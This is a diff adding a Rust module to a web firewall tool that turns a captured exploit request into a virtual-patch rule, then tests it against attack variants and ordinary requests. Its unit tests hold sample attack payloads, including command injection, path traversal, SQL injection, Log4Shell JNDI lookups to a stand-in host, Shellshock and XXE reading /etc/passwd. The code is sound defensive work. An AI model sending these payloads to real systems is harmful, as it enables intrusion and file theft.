@@ -1,0 +1,415 @@
+//! The command: read, look, write, run, tell.
+
+use super::draft::Draft;
+use super::mutate::variants;
+use super::part::{Part, Place, parts, path, with, written};
+use super::shape::{Finder, SHAPES};
+use super::source::{self, Exploit, Source};
+use crate::cli::console::{colour, complain, say};
+use crate::cli::ftw::{InProcess, Selection, run_native};
+use crate::cli::{PatchCommand, PatchNewArgs};
+use crate::compile::{EMBEDDED, Input, load};
+use crate::engine::NoWorld;
+use crate::reload::today;
+use crate::ruleset::Mode;
+use crate::syntax::diagnostic::render;
+use crate::syntax::seclang::{EmbeddedLoader, FileLoader};
+use crate::syntax::yaml::is_name;
+use std::io::Read as _;
+use std::path::Path;
+use std::sync::Arc;
+use time::Duration;
+
+/// Does what was asked for. `false` when it could not be done.
+pub(in crate::cli) fn patch(command: &PatchCommand) -> bool {
+    let done = match command {
+        PatchCommand::New(args) => new(args),
+        PatchCommand::List => list(),
+    };
+    done.map_err(|message| complain(&format!("error: {message}\n"))).is_ok()
+}
+
+/// The catalogue, a line for each patch.
+fn list() -> Result<(), String> {
+    let names = EMBEDDED.iter().map(|(name, _)| *name).filter(|name| name.starts_with("@virtual-patches/"));
+    let patch = |name: &str| Input::Patch { file: name.to_owned(), detection_only: false };
+    let loaded = load(&names.map(patch).collect::<Vec<_>>(), &EmbeddedLoader::new(EMBEDDED, FileLoader));
+    for patch in &loaded.document.patches {
+        say(&format!("{:<48} {:<9} {}: {}\n", patch.name, patch.severity, patch.product, patch.title));
+    }
+    Ok(())
+}
+
+fn new(args: &PatchNewArgs) -> Result<(), String> {
+    let source = source::read(&text_of(&args.from)?)?;
+    let normal = match &args.normal {
+        Some(file) => source::read(&text_of(file)?)?.requests,
+        None => Vec::new(),
+    };
+    let stem = args.output.as_deref().and_then(Path::file_stem).and_then(|stem| stem.to_str());
+    let name = args.name.as_deref().or(stem).unwrap_or("new-patch").to_owned();
+    if !is_name(&name) {
+        return Err(format!("{name} is no name for a patch: lower-case letters, digits, -, _ and ."));
+    }
+    let mut draft = look(source, &normal, name, args)?;
+    let fell = settle(&mut draft)?;
+    let text = draft.write();
+    match &args.output {
+        Some(path) => std::fs::write(path, &text).map_err(|error| format!("{}: {error}", path.display()))?,
+        None => say(&text),
+    }
+    complain(&told(&draft, &fell));
+    Ok(())
+}
+
+fn text_of(path: &Path) -> Result<String, String> {
+    let mut bytes = Vec::new();
+    let read = if path == Path::new("-") {
+        std::io::stdin().take(MOST + 1).read_to_end(&mut bytes)
+    } else {
+        std::fs::File::open(path).and_then(|file| file.take(MOST + 1).read_to_end(&mut bytes))
+    };
+    read.map_err(|error| format!("{}: {error}", path.display()))?;
+    if bytes.len() as u64 > MOST {
+        return Err(format!("{} is longer than {MOST} bytes", path.display()));
+    }
+    Ok(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// Finds the hostile part, and proposes condition and tests.
+fn look(source: Source, normal: &[Exploit], name: String, args: &PatchNewArgs) -> Result<Draft, String> {
+    let finder = Finder::new()?;
+    let mut found: Vec<(usize, usize, Part)> = Vec::new();
+    for (at, request) in source.requests.iter().enumerate() {
+        for part in parts(request) {
+            // What ordinary requests hold there too is not what is hostile.
+            let usual = normal.iter().flat_map(parts).any(|known| known == part);
+            let shape = if usual { None } else { finder.find(&part.value).first().copied() };
+            found.extend(shape.map(|shape| (shape, at, part)));
+        }
+    }
+    found.sort_by_key(|(shape, at, _)| (*shape, *at));
+    let mut open = source.guesses.clone();
+    for (shape, at, part) in found.iter().skip(1).filter(|(.., part)| part.place != found[0].2.place).take(8)
+    {
+        let shape = SHAPES[*shape].name;
+        open.push(format!("{} (request {}) looks hostile too: {shape}", part.place.named(), at + 1));
+    }
+    let today = today();
+    let first = source.requests.first().cloned().ok_or("there is no request")?;
+    let mut draft = Draft {
+        name,
+        about: source.about,
+        owner: args.owner.clone().unwrap_or_else(|| "unassigned".to_owned()),
+        created: today,
+        review_by: today.checked_add(Duration::days(REVIEW_DAYS)).unwrap_or(today),
+        request: first,
+        part: None,
+        shape: None,
+        ordinary: None,
+        matches: Vec::new(),
+        passes: Vec::new(),
+        open,
+    };
+    draft.about.cve.extend(args.cve.iter().map(|cve| cve.to_ascii_uppercase()));
+    draft.about.cve.retain(|cve| cve.starts_with("CVE-"));
+    draft.about.references.retain(|text| text.starts_with("https://") || text.starts_with("http://"));
+    if let Some((shape, at, part)) = found.into_iter().next() {
+        draft.shape = Some(&SHAPES[shape]);
+        draft.request = source.requests.get(at).cloned().unwrap_or_default();
+        draft.part = Some(part);
+    } else {
+        without_shape(&mut draft, &source.requests, normal);
+    }
+    let place = draft.part.as_ref().map(|part| part.place.clone());
+    strip(&mut draft.request, place.as_ref());
+    let mut normal = normal.to_vec();
+    normal.iter_mut().for_each(|request| strip(request, place.as_ref()));
+    propose(&mut draft, &normal);
+    Ok(draft)
+}
+
+/// Leaves only headers that matter: others hold somebody's session, and the file is going to be passed round.
+fn strip(request: &mut Exploit, place: Option<&Place>) {
+    request.headers.retain_mut(|(name, value)| match place {
+        Some(Place::Header(hostile)) if name.eq_ignore_ascii_case(hostile) => true,
+        Some(Place::Cookie(hostile)) if name.eq_ignore_ascii_case("cookie") => {
+            let kept = value.split(';').map(str::trim);
+            let kept = kept.filter(|pair| pair.split('=').next().is_some_and(|name| name.trim() == hostile));
+            *value = kept.collect::<Vec<_>>().join("; ");
+            true
+        }
+        _ => ["host", "content-type"].iter().any(|known| name.eq_ignore_ascii_case(known)),
+    });
+}
+
+/// Nothing looks hostile by itself: a value that does not fit what ordinary requests have, or the request as such.
+fn without_shape(draft: &mut Draft, requests: &[Exploit], normal: &[Exploit]) {
+    for request in requests {
+        for part in parts(request).into_iter().filter(|part| part.place != Place::Path) {
+            let usual: Vec<Vec<u8>> =
+                normal.iter().flat_map(parts).filter(|p| p.place == part.place).map(|p| p.value).collect();
+            let fits = |pattern: &str, value: &[u8]| {
+                let whole = regex::bytes::Regex::new(&format!(r"\A(?:{pattern})\z"));
+                whole.is_ok_and(|regex| regex.is_match(value))
+            };
+            let pattern = ORDINARY
+                .iter()
+                .copied()
+                .find(|pattern| !usual.is_empty() && usual.iter().all(|value| fits(pattern, value)))
+                .filter(|pattern| !fits(pattern, &part.value));
+            if let Some(pattern) = pattern {
+                draft.open.push(format!(
+                    "nothing in {} is known to be hostile; it is taken to be so because ordinary values are `{pattern}`",
+                    part.place.named()
+                ));
+                (draft.request, draft.ordinary, draft.part) = (request.clone(), Some(pattern), Some(part));
+                return;
+            }
+        }
+    }
+    draft.open.push(
+        "no value of the request is known to be hostile, so the patch blocks the method on this path altogether; \
+         --normal FILE with ordinary requests helps to tell"
+            .to_owned(),
+    );
+}
+
+/// The tests, before they have been tried.
+fn propose(draft: &mut Draft, normal: &[Exploit]) {
+    let request = draft.request.clone();
+    let mut passes: Vec<(String, Exploit)> =
+        normal.iter().map(|request| ("an ordinary request".to_owned(), request.clone())).collect();
+    match draft.part.clone() {
+        Some(part) => {
+            let variants = variants(&request, &part, draft.shape);
+            draft.matches = variants.into_iter().map(|v| (v.what.to_owned(), v.request)).collect();
+            for value in BENIGN {
+                let value = if part.place == Place::Path {
+                    format!("/{}", value.trim_start_matches('/'))
+                } else {
+                    (*value).to_owned()
+                };
+                let exchanged = with(&request, &part.place, &written(&part.place, value.as_bytes()));
+                passes
+                    .extend(exchanged.map(|request| ("an ordinary value in its place".to_owned(), request)));
+            }
+            if draft.path_pattern().is_some() {
+                let rest = request.target.get(path(&request).len()..).unwrap_or("").to_owned();
+                let target = format!("/elsewhere-{}{rest}", draft.name);
+                passes.push(("the same on another path".to_owned(), Exploit { target, ..request.clone() }));
+                draft.open.push(format!(
+                    "whether other paths than {} lead to the same code, and whether segments of it vary",
+                    path(&request)
+                ));
+            } else {
+                draft.open.push(
+                    "the condition holds on every path; name those that matter if you know them".to_owned(),
+                );
+            }
+            if matches!(part.place, Place::Query(_) | Place::Form(_)) {
+                draft.open.push(
+                    "the parameter is looked for in the query string and in the body, with any method"
+                        .to_owned(),
+                );
+            }
+            if part.place == Place::Body {
+                draft.open.push(
+                    "the body is of a type that has no parameters; the whole request is looked at".to_owned(),
+                );
+            }
+        }
+        None => {
+            draft.matches = vec![("as it was".to_owned(), request.clone())];
+            let (path, rest) = (path(&request), request.target.get(path(&request).len()..).unwrap_or(""));
+            for (what, target) in [
+                ("a slash more in the path", format!("/{path}{rest}")),
+                ("a parameter in the path", format!("{path};x=y{rest}")),
+                ("in upper case", format!("{}{rest}", path.to_ascii_uppercase())),
+            ] {
+                draft.matches.push((what.to_owned(), Exploit { target, ..request.clone() }));
+            }
+            let other = if request.method == "GET" { "HEAD" } else { "GET" };
+            passes.push((
+                "another method".to_owned(),
+                Exploit { method: other.to_owned(), body: Vec::new(), ..request.clone() },
+            ));
+            let target = format!("/elsewhere-{}", draft.name);
+            passes.push(("another path".to_owned(), Exploit { target, ..request }));
+        }
+    }
+    draft.passes = passes;
+}
+
+/// Runs the tests and takes away those that fail; these are told.
+fn settle(draft: &mut Draft) -> Result<Vec<String>, String> {
+    let verdicts = run(draft)?;
+    let mut fell = Vec::new();
+    let mut verdicts = verdicts.into_iter();
+    let mut keep = |tests: &mut Vec<(String, Exploit)>, wrong: &str| {
+        tests.retain(|(note, request)| {
+            let good = verdicts.next().unwrap_or(false);
+            if !good {
+                fell.push(format!("{wrong}: {note}: {} {}", request.method, request.target));
+            }
+            good
+        });
+    };
+    keep(&mut draft.matches, "not blocked");
+    keep(&mut draft.passes, "blocked, though it looks ordinary");
+    if draft.matches.is_empty() {
+        return Err(
+            "the proposed condition does not match the exploit itself; write the patch by hand".to_owned()
+        );
+    }
+    draft.open.extend(fell.iter().cloned());
+    if run(draft)?.contains(&false) {
+        return Err("the patch fails its own tests, which should not happen".to_owned());
+    }
+    Ok(fell)
+}
+
+/// Whether each test of the draft is met, in the order in which they are written.
+fn run(draft: &Draft) -> Result<Vec<bool>, String> {
+    let base = Input::File("@engine.conf".to_owned());
+    let patch = Input::Text { name: format!("{}.yaml", draft.name), text: draft.write() };
+    let loaded = load(&[base, patch], &EmbeddedLoader::new(EMBEDDED, FileLoader));
+    let Some(ruleset) = loaded.ruleset.clone() else {
+        let told = render(&loaded.diagnostics, &loaded.sources, colour());
+        return Err(format!("the patch does not compile; write it by hand\n{told}"));
+    };
+    let mut engine = InProcess::new(ruleset, Arc::new(NoWorld));
+    engine.mode = Some(Mode::DetectionOnly);
+    let results = run_native(&engine, &loaded, &Selection::default());
+    Ok(results.iter().map(|result| result.faults.is_empty()).collect())
+}
+
+fn told(draft: &Draft, fell: &[String]) -> String {
+    let mut out = match (&draft.part, draft.shape) {
+        (Some(part), Some(shape)) => format!("found {} in {}\n", shape.name, part.place.named()),
+        (Some(part), None) => format!("found a value that is not ordinary in {}\n", part.place.named()),
+        _ => "found no hostile value\n".to_owned(),
+    };
+    out.push_str(&format!(
+        "{} variants of the exploit are blocked, {} ordinary requests pass\n",
+        draft.matches.len(),
+        draft.passes.len()
+    ));
+    for line in draft.open.iter().filter(|line| !fell.contains(line)) {
+        out.push_str(&format!("to decide: {line}\n"));
+    }
+    for line in fell {
+        out.push_str(&format!("{line}\n"));
+    }
+    out.push_str("try it with mode: DetectionOnly, if there is time\n");
+    out
+}
+
+/// Bytes of a source.
+const MOST: u64 = 8 << 20;
+/// Days after which a new patch is reviewed: it was written in haste.
+const REVIEW_DAYS: i64 = 90;
+/// Values that nobody should be blocked for.
+const BENIGN: &[&str] =
+    &["1", "abc", "hello world", "O'Brien & Sons", "jane@example.com", "2026-11-22", "docs/report.pdf"];
+/// Patterns for ordinary values, the narrowest first.
+const ORDINARY: &[&str] = &[
+    "[0-9]{1,20}",
+    "[0-9A-Fa-f-]{1,64}",
+    "[A-Za-z0-9_-]{1,128}",
+    "[A-Za-z0-9_.@ -]{1,256}",
+    r"[^\x00-\x1f\x7f<>&;|`$(){}]{0,1024}",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn args() -> PatchNewArgs {
+        PatchNewArgs {
+            from: "x".into(),
+            normal: None,
+            output: None,
+            name: None,
+            owner: None,
+            cve: Vec::new(),
+        }
+    }
+
+    fn drafted(text: &str, normal: &str) -> (Draft, Vec<String>) {
+        let source = source::read(text).expect("it is sound");
+        let normal =
+            if normal.is_empty() { Vec::new() } else { source::read(normal).expect("it is sound").requests };
+        let mut draft = look(source, &normal, "a-patch".to_owned(), &args()).expect("a draft");
+        let fell = settle(&mut draft).expect("the patch works");
+        (draft, fell)
+    }
+
+    #[test]
+    fn an_exploit_becomes_a_patch_that_holds_against_its_variants() {
+        for (text, place, name) in [
+            (
+                "GET /ping.cgi?lang=en&host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd HTTP/1.1\nHost: h\n\n",
+                Place::Query("host".to_owned()),
+                "a shell command",
+            ),
+            (
+                "curl 'http://h/files/view?name=../../../etc/passwd'",
+                Place::Query("name".to_owned()),
+                "a step out of the directory",
+            ),
+            (
+                "curl http://h/login -d 'user=admin%27%20or%201%3D1--&pw=x'",
+                Place::Form("user".to_owned()),
+                "SQL",
+            ),
+            (
+                "curl http://h/api -H 'Content-Type: application/json' -d '{\"a\": {\"b\": \"${jndi:ldap://e/a}\"}}'",
+                Place::Json("json.a.b".to_owned()),
+                "a JNDI lookup",
+            ),
+            (
+                "GET / HTTP/1.1\nUser-Agent: () { :; }; /bin/id\n\n",
+                Place::Header("User-Agent".to_owned()),
+                "a shell function",
+            ),
+            ("GET /static/../../etc/passwd HTTP/1.1\n\n", Place::Path, "a step out of the directory"),
+            (
+                "POST /soap HTTP/1.1\nContent-Type: text/xml\n\n<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>\n",
+                Place::Body,
+                "an external entity",
+            ),
+        ] {
+            let (draft, _) = drafted(text, "");
+            assert_eq!(draft.part.as_ref().map(|part| &part.place), Some(&place), "{text}");
+            assert_eq!(draft.shape.map(|shape| shape.name), Some(name), "{text}");
+            assert!(draft.matches.iter().any(|(note, _)| note == "as it was"), "{text}");
+            assert!(draft.matches.len() >= 2 && draft.passes.len() >= 3, "{text}: {}", draft.write());
+        }
+    }
+
+    #[test]
+    fn ordinary_requests_tell_what_is_hostile() {
+        let exploit = "curl 'http://h/item?id=7abc!'";
+        let (draft, _) = drafted(exploit, "curl 'http://h/item?id=12'");
+        assert_eq!(draft.ordinary, Some("[0-9]{1,20}"));
+        let (draft, _) = drafted(exploit, "");
+        assert!(draft.part.is_none() && draft.open.iter().any(|line| line.contains("altogether")));
+    }
+
+    #[test]
+    fn sessions_are_not_passed_on() {
+        let text = "GET /a?x=../../b HTTP/1.1\nHost: h\nCookie: sid=s3cret\nAuthorization: Basic s3cret\n\n";
+        assert!(!drafted(text, "curl http://h/a?x=1 -b sid=s3cret").0.write().contains("s3cret"));
+        let (draft, _) = drafted("GET / HTTP/1.1\nCookie: sid=s3cret; lang=../../b\n\n", "");
+        assert_eq!(draft.part.as_ref().map(|part| &part.place), Some(&Place::Cookie("lang".to_owned())));
+        assert!(!draft.write().contains("s3cret"));
+    }
+
+    #[test]
+    fn what_is_hostile_everywhere_is_not_tied_to_a_path() {
+        let (draft, _) = drafted("GET /x HTTP/1.1\nX-Api-Version: ${jndi:ldap://e/a}\n\n", "");
+        assert!(draft.path_pattern().is_none());
+        assert!(draft.write().contains("REQUEST_HEADERS:X-Api-Version"));
+    }
+}
